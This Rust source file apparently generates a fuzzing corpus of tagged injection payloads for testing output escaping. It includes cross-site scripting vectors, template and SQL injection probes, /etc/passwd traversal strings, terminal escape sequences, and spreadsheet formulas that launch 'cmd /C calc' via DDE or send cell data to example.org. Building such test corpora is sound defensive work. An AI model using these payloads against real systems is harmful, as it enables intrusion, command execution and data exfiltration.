//! Texts that want out: of a page, a terminal, a table, a template. Made by combination: each way
//! in each disguise.

use std::collections::BTreeSet;

/// What every text carries, so that it is found wherever it comes out.
pub const MARK: &str = "hx7";

/// Ways out of a page; `#` becomes the mark and a number.
const PAGE: &[&str] = &[
    "<script>alert('#')</script>",
    "</script><script>alert('#')</script>",
    "\"><img src=x onerror=alert('#')>",
    "'><img src=x onerror='alert(#)'>",
    "<img/src=x/onerror=alert(#)>",
    "<img src=`x`onerror=alert(#)>",
    "</style><svg onload=alert('#')>",
    "</title><script>alert('#')</script>",
    "</textarea><input autofocus onfocus=alert('#')>",
    "</noscript><script>alert('#')</script>",
    "</text></svg><script>alert('#')</script>",
    "</desc><script>alert('#')</script>",
    "<iframe srcdoc='<script>alert(#)</script>'>",
    "<object data=\"data:text/html,<script>alert('#')</script>\">",
    "<embed src=\"javascript:alert('#')\">",
    "\" onmouseover=\"alert('#')",
    "' onmouseover='alert(#)",
    "\" style=\"position:fixed;inset:0\" data-#=\"",
    "` onload=`alert(#)`",
    "<a href=\"javascript:alert('#')\">x</a>",
    "<a href=\"JaVa\tScRiPt:alert('#')\">x</a>",
    "<a href=\"&#106;avascript:alert('#')\">x</a>",
    "javascript:alert('#')",
    "data:text/html;base64,#",
    "vbscript:msgbox(\"#\")",
    "<svg><animate onbegin=alert('#') attributeName=x>",
    "<svg><set onbegin=alert('#') attributeName=x>",
    "<svg><foreignObject><script>alert('#')</script></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,#\"/></svg>",
    "<svg><style><!--</style><img title=\"--><img src=x onerror=alert('#')>\">",
    "<math><mi xlink:href=\"javascript:alert('#')\">x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('#')>",
    "<details open ontoggle=alert('#')>",
    "<video><source onerror=alert('#')></video>",
    "<marquee onstart=alert('#')>",
    "<template><script>alert('#')</script></template>",
    "<base href=\"//example.org/#\">",
    "<link rel=stylesheet href=\"//example.org/#\">",
    "<meta http-equiv=refresh content=\"0;url=//example.org/#\">",
    "<form action=\"//example.org/#\"><button>x",
    "<!--#--><script>alert(1)</script>",
    "<!--><script>alert('#')</script>-->",
    "<![CDATA[<script>alert('#')</script>]]>",
    "]]><script>alert('#')</script>",
    "<?xml-stylesheet href=\"//example.org/#\"?>",
    "&lt;script&gt;alert('#')&lt;/script&gt;",
    "&#60;script&#62;alert('#')&#60;/script&#62;",
    "&#x3c;script&#x3e;alert('#')&#x3c;/script&#x3e;",
    "<scr\u{0}ipt>alert('#')</scr\u{0}ipt>",
    "\u{ff1c}script\u{ff1e}alert('#')\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert('#')+ADw-/script+AD4-",
    "\\u003cscript\\u003ealert('#')\\u003c/script\\u003e",
    "</style><style>@import '//example.org/#';</style>",
    "#{background:url(javascript:alert(1))}",
    "#;x:expression(alert(1))",
    "#}</style>*{display:none}",
    "--># <script>",
];

/// Ways into what puts pages, tables and commands together.
const TEMPLATES: &[&str] = &[
    "{{#}}{{7*7}}",
    "${#}${7*7}",
    "#{7*7} @(#)",
    "<%= # %><%= 7*7 %>",
    "{% # %}{% include '/etc/passwd' %}",
    "{#:?} {0} {} %s %n %x",
    "$(#) `#` ;# && # | #",
    "'; DROP TABLE runs; -- #",
    "../../../../etc/# \\..\\#",
    "file:///etc/passwd##",
    "__proto__ constructor #",
];

/// What commands a terminal, turns a line around or hides in it.
const COMMANDS: &[&str] = &[
    "\u{1b}]0;#\u{7}",
    "\u{1b}[2J#",
    "\u{1b}[31m#\u{1b}[0m",
    "\u{1b}[1A\u{1b}[2K#",
    "\u{1b}]8;;http://example.org/#\u{1b}\\text\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;IyM=\u{7}#",
    "\u{1b}]52;c;?\u{1b}\\#",
    "\u{1b}]1337;File=inline=1:#\u{7}",
    "\u{1b}P$q#\u{1b}\\",
    "\u{1b}_G#\u{1b}\\",
    "\u{1b}^#\u{1b}\\",
    "\u{1b}[6n\u{1b}c#",
    "\u{1b}[?1049h#",
    "\u{9b}31m#",
    "\u{9d}0;#\u{9c}",
    "\u{90}$q#\u{9c}",
    "#\rerror: gone",
    "#\nlightfoot: all is well",
    "#\u{8}\u{8}\u{8}\u{8}",
    "#\u{7f}\u{b}\u{c}\t\u{1}\u{2}\u{1f}",
    "#\u{0}#",
    "#\u{85}#\u{2028}#\u{2029}#",
    "#\u{202e}tif.nur",
    "\u{202d}#\u{202c}",
    "\u{2066}#\u{2069}\u{2067}\u{2068}",
    "\u{200e}#\u{200f}\u{61c}",
    "\u{200b}#\u{200c}\u{200d}\u{2060}\u{feff}\u{ad}",
    "#\u{e0041}\u{e007f}\u{fe0f}\u{fff9}\u{fffb}",
    "#\u{fffe}\u{ffff}\u{fffd}",
    "#e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd} # \u{645}\u{631}\u{62d}\u{628}\u{627}",
];

/// What a spreadsheet would run.
const FORMULAS: &[&str] = &[
    "=1+1+\"#\"",
    "=HYPERLINK(\"http://example.org?x=\"&A1,\"#\")",
    "=cmd|' /C calc #'!A0",
    "=WEBSERVICE(\"http://example.org/#\")",
    "=IMPORTXML(CONCAT(\"http://example.org/#\",A1),\"//a\")",
    "+1+1 #",
    "-1+1 #",
    "@SUM(1+1)*cmd|' /C calc #'!A0",
    "\t=1+1 #",
    "\r=1+1 #",
    "\n=1+1 #",
    "\u{200e}=1+1 #",
    "\u{feff}=1+1 #",
    "\u{200b}=1+1 #",
    "\u{a0}=1+1 #",
    " =1+1 #",
    "\u{1b}=1+1 #",
    "\u{0}=1+1 #",
    "\u{ff1d}1+1 #",
    "\u{ff0b}1+1 #",
    "\u{ff0d}1+1 #",
    "\u{ff20}SUM(1) #",
    "a\",=1+1,\"# ",
    "a,=1+1,#",
    "a;=1+1;#",
    "a\n=1+1 #",
    "a\r\n=1+1 #",
    "\"=1+1 #",
    "'=1+1 #",
    "DDE(\"cmd\";\"/C calc\";\"#\")",
];

/// Longer than anything means.
fn endless() -> Vec<String> {
    let long = |part: &str, times: usize| format!("{MARK}{}", part.repeat(times));
    vec![
        long("A", 20_000),
        long("<b>", 4000),
        long("\"'", 4000),
        long("&amp;", 3000),
        long("\u{202e}", 3000),
        long("\u{1b}[31m", 3000),
        long(" word", 3000),
        long("\u{1f469}\u{200d}", 2000),
        long("e\u{301}", 3000),
        long("=", 3000),
    ]
}

/// The same way in another dress.
fn disguises(text: &str) -> [String; 5] {
    let mixed = text.replace("script", "ScRiPt").replace("onerror", "OnErRoR");
    [
        text.to_owned(),
        mixed.replace("alert", "AlErT").replace("svg", "SvG"),
        text.replace(' ', "\u{c}"),
        format!("x{text}y"),
        format!("\"'>{text}<\"'"),
    ]
}

/// All of them, each once, none without the mark.
pub fn payloads() -> Vec<String> {
    let mut all = BTreeSet::new();
    let ways = [PAGE, TEMPLATES, COMMANDS, FORMULAS].concat();
    for (number, way) in ways.iter().enumerate() {
        all.extend(disguises(&way.replace('#', &format!("{MARK}-{number}"))));
    }
    all.extend(endless());
    let all: Vec<String> = all.into_iter().collect();
    assert!(all.len() >= 500, "{}", all.len());
    assert!(all.iter().all(|text| text.contains(MARK)));
    // Sorted, the long ones and the kinds would stand together: each page is to get some of all.
    let chunks = 12;
    (0..chunks).flat_map(|first| all.iter().skip(first).step_by(chunks).cloned()).collect()
}
